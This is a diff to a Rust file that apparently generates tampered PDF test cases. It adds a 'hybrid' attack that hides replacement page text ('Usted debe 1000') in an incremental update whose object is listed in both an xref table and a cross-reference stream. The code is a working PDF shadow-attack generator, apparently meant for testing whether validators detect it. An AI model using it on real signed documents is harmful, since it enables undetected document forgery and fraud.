@@ -24,6 +24,21 @@ fn twice(victim: &Victim, evil: &[u8]) -> Vec<u8> {
     out
 }
 
+/// The same with one entry in a table, and the other in the stream that the table names.
+fn hybrid(victim: &Victim, evil: &[u8]) -> Vec<u8> {
+    let mut out = victim.bytes.clone();
+    let was = out.windows(9).position(|w| w == b"\n5 0 obj\n").unwrap() + 1;
+    let now = out.len();
+    object(&mut out, 5, evil);
+    let (hidden, past) = (out.len(), startxref(&victim.bytes));
+    let places = [now, hidden].map(|place| u32::try_from(place).unwrap().to_be_bytes());
+    let dict = format!("/Type/XRef/Size {}/W[0 4 0]/Index[5 1 {SIZE} 1]", SIZE + 1);
+    object(&mut out, SIZE, &stream(&dict, places.as_flattened()));
+    let at = out.len();
+    out.extend_from_slice(format!("xref\n5 1\n{was:010} 00000 n\r\ntrailer\n<</Root 1 0 R/Size {}/Prev {past}/XRefStm {hidden}>>\nstartxref\n{at}\n%%EOF\n", SIZE + 1).as_bytes());
+    out
+}
+
 pub(crate) fn all(victim: &Victim) -> Vec<Attack> {
     let evil = stream("", b"BT /F1 12 Tf 72 720 Td (Usted debe 1000) Tj ET");
     let page = |contents: u32| body(&format!("<</Type/Page/Parent 2 0 R/Contents {contents} 0 R>>"));
@@ -164,5 +179,6 @@ pub(crate) fn all(victim: &Victim) -> Vec<Attack> {
     );
     attacks.push(victim.attack("another root", other));
     attacks.push(victim.attack("contents listed twice", twice(victim, &evil)));
+    attacks.push(victim.attack("contents in a table and a stream", hybrid(victim, &evil)));
     attacks
 }
